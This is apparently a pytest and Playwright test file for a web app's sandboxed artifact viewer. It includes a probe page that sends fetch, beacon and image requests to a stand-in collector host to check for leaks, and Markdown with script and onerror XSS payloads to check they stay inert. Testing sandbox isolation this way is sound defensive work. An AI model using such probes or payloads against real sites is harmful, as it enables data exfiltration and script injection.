"""Chromium proves the sandbox basics: an artifact's inline script runs, its loads and
fetches reach nothing, Markdown runs no script, and a sandbox URL opened top-level shows
the "open this in the app" page. A positive control shows the same probes do leak when
the page is served without our headers. (The full egress suite belongs to the viewer
issue; this is the core's proof.)"""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

COLLECTOR_PORT = 8199
COLLECTOR = f"http://collector.example:{COLLECTOR_PORT}"  # resolves to 127.0.0.1 in Chromium

PROBE = f"""<!doctype html><meta charset=utf-8><title>probe</title>
<h1 id=status>static</h1>
<img src="{COLLECTOR}/img">
<link rel=stylesheet href="{COLLECTOR}/css">
<script src="{COLLECTOR}/script"></script>
<script>
  document.getElementById("status").textContent = "script ran";
  fetch("{COLLECTOR}/fetch").catch(() => {{}});
  navigator.sendBeacon && navigator.sendBeacon("{COLLECTOR}/beacon", "x");
  new Image().src = "{COLLECTOR}/js-img";
</script>""".encode()


class Collector(ThreadingHTTPServer):
    def __init__(self):
        self.hits: list[str] = []
        collector = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self):
                collector.hits.append(self.path)
                body = PROBE if self.path == "/probe" else b""
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _record

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", COLLECTOR_PORT), Handler)


@pytest.fixture
def collector():
    server = Collector()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def test_inline_script_runs_and_nothing_leaves_the_sandbox(signed_in, server, collector):
    artifact = server.push("probe.html", PROBE, visibility="org")
    page = signed_in.new_page()
    page.goto(artifact["url"])
    frame = page.frame_locator("iframe.artifact")
    assert frame.locator("#status").text_content(timeout=10_000) == "script ran"
    page.wait_for_timeout(1500)  # give every probe time to (not) arrive
    assert collector.hits == []
    page.close()


def test_positive_control_the_same_probes_leak_without_our_headers(browser, collector):
    page = browser.new_page()
    page.goto(f"{COLLECTOR}/probe")
    page.wait_for_timeout(1500)
    assert {"/img", "/css", "/script", "/fetch", "/js-img"} <= set(collector.hits)
    page.close()


def test_markdown_runs_no_script(signed_in, server):
    source = (
        b"# Notes\n\n<script>document.title='pwned'</script>\n\n"
        b"<img src=x onerror=\"document.title='pwned'\">\n"
    )
    artifact = server.push("notes.md", source, visibility="org")
    page = signed_in.new_page()
    page.goto(artifact["url"])
    frame = page.frame(url=lambda url: url.startswith(server.sandbox_url))
    page.wait_for_timeout(500)
    assert frame is not None
    assert frame.locator("h1").text_content() == "Notes"
    assert frame.title() != "pwned"
    page.close()


def test_sandbox_url_opened_top_level_shows_open_in_app(signed_in, server):
    artifact = server.push("p.html", b"<h1 id=secret>secret content</h1>", visibility="org")
    page = signed_in.new_page()
    page.goto(artifact["url"])
    src = page.locator("iframe.artifact").get_attribute("src")
    assert src.startswith(server.sandbox_url + "/g/")
    top = signed_in.new_page()
    response = top.goto(src)
    assert response.status == 404
    assert top.locator("h1").text_content() == "Open this in the app"
    assert "secret content" not in top.content()
    top.close()
    page.close()
